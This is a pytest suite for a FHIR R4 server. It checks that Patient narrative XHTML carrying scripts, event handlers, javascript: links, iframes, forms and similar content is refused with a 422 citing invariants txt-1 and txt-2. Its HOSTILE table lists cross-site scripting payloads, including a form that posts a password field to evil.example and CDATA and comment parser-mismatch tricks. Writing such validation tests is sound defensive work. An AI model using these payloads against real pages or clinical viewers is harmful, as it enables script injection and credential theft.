"""Narrative XHTML is checked on write against the FHIR R4 rules (issue 13, finding 8).

FHIR R4 Narrative.div: an XHTML `<div>` in the XHTML namespace holding only the basic
formatting elements and attributes (invariant txt-1: no scripts, forms, frames, objects, event
handlers) and some non-whitespace content (txt-2). The official validator refuses the rest; so
does kangtong, answering 422 with an OperationOutcome that names the invariant.
"""

from __future__ import annotations

from typing import Any

import pytest
from fastapi.testclient import TestClient

XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'


def _patient(div: str) -> dict[str, Any]:
    return {"resourceType": "Patient", "gender": "female",
            "text": {"status": "generated", "div": div}}  # fmt: skip


def _stored(client: TestClient) -> int:
    return int(client.get("/fhir/Patient?_summary=count").json()["total"])


HOSTILE = {
    "script element": f"<div {XHTML}><script>alert(1)</script>王芳</div>",
    "img onerror": f'<div {XHTML}><img src="x" onerror="alert(1)"/>王芳</div>',
    "onclick on a paragraph": f'<div {XHTML}><p onclick="steal()">王芳</p></div>',
    "javascript: link": f'<div {XHTML}><a href="javascript:alert(1)">王芳</a></div>',
    "javascript: link with a tab": f'<div {XHTML}><a href="java&#9;script:alert(1)">x</a></div>',
    "iframe": f'<div {XHTML}><iframe src="https://evil.example/"></iframe>王芳</div>',
    "object": f'<div {XHTML}><object data="x.swf"></object>王芳</div>',
    "form": f'<div {XHTML}><form action="https://evil.example/"><input name="pw"/></form></div>',
    "style element": f"<div {XHTML}><style>body{{display:none}}</style>王芳</div>",
    "svg in its own namespace": (
        f'<div {XHTML}><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>王芳</div>'
    ),
    "data: html image": f'<div {XHTML}><img src="data:text/html,&lt;script&gt;x"/>王芳</div>',
    # Text or a comment to XML, live elements to the HTML parser of a browser showing the div.
    "markup in CDATA": f"<div {XHTML}><![CDATA[><img src=x onerror=alert(1)>]]>王芳</div>",
    "markup in a comment": f"<div {XHTML}><!--><img src=x onerror=alert(1)>-->王芳</div>",
}


@pytest.mark.parametrize("div", list(HOSTILE.values()), ids=list(HOSTILE))
def test_a_narrative_with_active_content_is_refused_with_txt_1(
    client: TestClient, div: str
) -> None:
    response = client.post("/fhir/Patient", json=_patient(div))
    assert response.status_code == 422, response.text
    outcome = response.json()
    assert outcome["resourceType"] == "OperationOutcome"
    assert any("txt-1" in issue.get("diagnostics", "") for issue in outcome["issue"]), outcome
    assert _stored(client) == 0


@pytest.mark.parametrize(
    "div",
    [
        "<div>王芳</div>",  # not in the XHTML namespace
        f"<div {XHTML}>王芳",  # not well-formed
        f"<div {XHTML}>&nbsp;王芳</div>",  # an HTML entity XML does not define
    ],
    ids=["no namespace", "unclosed", "html entity"],
)
def test_a_narrative_that_is_not_a_well_formed_xhtml_div_is_refused(
    client: TestClient, div: str
) -> None:
    response = client.post("/fhir/Patient", json=_patient(div))
    assert response.status_code == 422, response.text
    assert _stored(client) == 0


def test_a_narrative_with_a_dtd_is_refused(client: TestClient) -> None:
    div = f'<!DOCTYPE div [<!ENTITY x "y">]><div {XHTML}>&x;</div>'
    response = client.post("/fhir/Patient", json=_patient(div))
    assert response.status_code == 422, response.text
    assert _stored(client) == 0


def test_a_narrative_of_only_whitespace_is_refused_with_txt_2(client: TestClient) -> None:
    response = client.post("/fhir/Patient", json=_patient(f"<div {XHTML}> <p>\n</p> </div>"))
    assert response.status_code == 422, response.text
    assert any("txt-2" in i.get("diagnostics", "") for i in response.json()["issue"])


def test_comments_and_cdata_without_markup_are_accepted(client: TestClient) -> None:
    div = f"<div {XHTML}><!-- 由 HIS 生成 --><![CDATA[血压 120/80 & 心率 72]]></div>"
    assert client.post("/fhir/Patient", json=_patient(div)).status_code == 201


def test_an_ordinary_narrative_is_accepted_as_sent(client: TestClient) -> None:
    div = (
        f"<div {XHTML}><p><b>王芳</b>，女，1990-03-07</p>"
        '<table class="grid"><tr><td style="color:red">血压</td><td>140/90 mmHg</td></tr></table>'
        '<a href="https://example.org/guide#bp">指南</a><img src="#photo" alt="照片"/></div>'
    )
    response = client.post("/fhir/Patient", json=_patient(div))
    assert response.status_code == 201, response.text
    assert response.json()["text"]["div"] == div


def test_a_contained_resources_narrative_is_checked_too(client: TestClient) -> None:
    contained = _patient(f"<div {XHTML}><script>alert(1)</script>x</div>") | {"id": "c1"}
    observation = {
        "resourceType": "Observation", "status": "final", "contained": [contained],
        "code": {"coding": [{"system": "http://loinc.org", "code": "2339-0"}]},
        "subject": {"reference": "#c1"},
    }  # fmt: skip
    response = client.post("/fhir/Observation", json=observation)
    assert response.status_code == 422, response.text
